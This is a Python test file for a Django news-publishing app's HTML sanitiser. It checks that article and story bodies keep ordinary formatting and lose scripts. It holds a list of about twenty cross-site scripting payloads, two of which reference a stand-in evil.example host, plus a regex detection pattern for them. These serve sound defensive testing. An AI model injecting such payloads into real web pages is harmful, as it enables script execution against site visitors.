import re

import pytest
from django.urls import reverse

from apps.publicity import services
from apps.publicity.models import Category
from apps.publicity.sanitize import sanitize_html
from tests.factories import CadreFactory

from .factories import ExemplarFactory

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<a href="javascript:alert(1)">点我</a>',
    '<a href="JaVaScRiPt:alert(1)">点我</a>',
    '<a href="&#106;avascript:alert(1)">点我</a>',
    '<a href="  javascript:alert(1)">点我</a>',
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)><circle r=1></circle></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<p onclick="alert(1)" onmouseover="alert(1)">x</p>',
    '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<!--<script>alert(1)</script>-->",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
]
DANGEROUS = re.compile(
    r"<script|<svg|<style|<iframe|<object|<form|<meta|\son\w+\s*=|javascript:|vbscript:|data:",
    re.IGNORECASE,
)


def _body_section(html: str) -> str:
    return html.split('<div class="news-body">', 1)[1].split("</article>", 1)[0]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_sanitiser_removes_every_payload(payload):
    assert not DANGEROUS.search(sanitize_html(payload)), sanitize_html(payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_reaches_a_reader_of_a_published_article(client, staff_a, bureau_staff, payload):
    article = services.article_create(
        by=staff_a,
        title="安全测试",
        category=Category.WORK,
        body=f"<p>正文开头</p>{payload}<p>正文结尾</p>",
        source_unit=staff_a.unit,
    )
    services.article_submit(article=article, by=staff_a)
    services.article_approve(article=article, by=bureau_staff)
    html = client.get(reverse("publicity:article", args=[article.pk])).content.decode()
    section = _body_section(html)
    assert "正文开头" in section
    assert not DANGEROUS.search(section), section
    assert "alert(1)" not in section.replace("&", "")


def test_a_payload_added_by_a_later_edit_is_removed_too(staff_a):
    article = services.article_create(
        by=staff_a, title="t", category=Category.WORK, body="<p>x</p>", source_unit=staff_a.unit
    )
    services.article_update(
        article=article, by=staff_a, data={"body": '<p>y</p><img src=x onerror="alert(1)">'}
    )
    article.refresh_from_db()
    assert article.body == '<p>y</p><img src="x">'


def test_ordinary_formatting_links_and_relative_images_survive():
    html = (
        '<h3>小标题</h3><p><strong>加粗</strong> <a href="https://www.gov.cn/">政府网</a> '
        '<img src="/news/images/3/" alt="合影"></p><ul><li>一</li></ul>'
        '<table><tr><td colspan="2">表格</td></tr></table>'
    )
    clean = sanitize_html(html)
    for kept in (
        "<h3>小标题</h3>",
        "<strong>加粗</strong>",
        'href="https://www.gov.cn/"',
        'src="/news/images/3/"',
        "<li>一</li>",
        'colspan="2"',
    ):
        assert kept in clean
    assert 'rel="noopener noreferrer"' in clean


def test_search_text_is_taken_from_the_sanitised_body_without_tags(staff_a):
    article = services.article_create(
        by=staff_a,
        title="t",
        category=Category.WORK,
        body='<p title="隐藏">重阳&amp;敬老</p><script>秘密</script>',
        source_unit=staff_a.unit,
    )
    assert article.body_text == "重阳&敬老"


def test_an_exemplar_story_is_sanitised(staff_a):
    exemplar = ExemplarFactory.build(
        cadre=CadreFactory(unit=staff_a.unit), story='<p>事迹</p><svg onload="alert(1)"></svg>'
    )
    services.exemplar_save(exemplar=exemplar, by=staff_a)
    exemplar.refresh_from_db()
    assert exemplar.story == "<p>事迹</p>"
